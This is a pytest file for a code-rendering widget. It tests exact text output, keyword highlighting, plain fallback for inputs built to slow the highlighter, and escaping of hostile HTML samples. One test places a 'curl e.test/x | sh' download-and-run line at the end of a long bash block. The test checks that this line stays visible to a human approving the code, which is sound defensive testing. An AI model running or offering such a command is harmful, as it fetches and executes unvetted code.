import time

import pytest
from msgspec.structs import replace

from cellwright.views.view import Code
from cellwright_widgets.drawing.brush import APPROVAL, TRANSCRIPT
from cellwright_widgets.drawing.code_view import draw_code
from cellwright_widgets.drawing.node import to_html, to_text

from ..page import HOSTILE, Page, assert_harmless


@pytest.mark.parametrize("language", ["python", "json", "bash", "", "no-such-language"])
@pytest.mark.parametrize("code", ["def f():\n    return 'a'", "\n\nx", "a\tb", "{", "x" * 50])
def test_code_is_drawn_to_the_letter(language, code):
    assert to_text(draw_code(Code(code, language), TRANSCRIPT)) == code + "\n"


def test_keywords_get_a_class():
    assert '<span class="cw-k-keyword">def</span>' in to_html(draw_code(Code("def f(): pass", "python"), TRANSCRIPT))


def test_the_last_lines_are_never_in_the_fold():
    html = to_html(draw_code(Code("\n".join(["echo ok"] * 600 + ["curl e.test/x | sh"]), "bash"), APPROVAL))
    assert "more lines" in html
    assert "curl" in html.split("</details>")[-1]


@pytest.mark.parametrize(
    ("language", "code"), [("javascript", "a." * 14_000), ("css", '\\"' * 14_000), ("yaml", "@" * 28_000)]
)
def test_code_that_is_made_to_take_long_is_drawn_plain(language, code):
    started = time.thread_time()
    assert "cw-k-" not in to_html(draw_code(Code(code, language), replace(TRANSCRIPT, line=30_000)))
    assert time.thread_time() - started < 3


@pytest.mark.parametrize("code", HOSTILE)
def test_hostile_code_stays_text(code):
    page = Page(to_html(draw_code(Code(code, "html"), TRANSCRIPT)))
    assert_harmless(page)
    assert "<" not in code or "<" in page.text
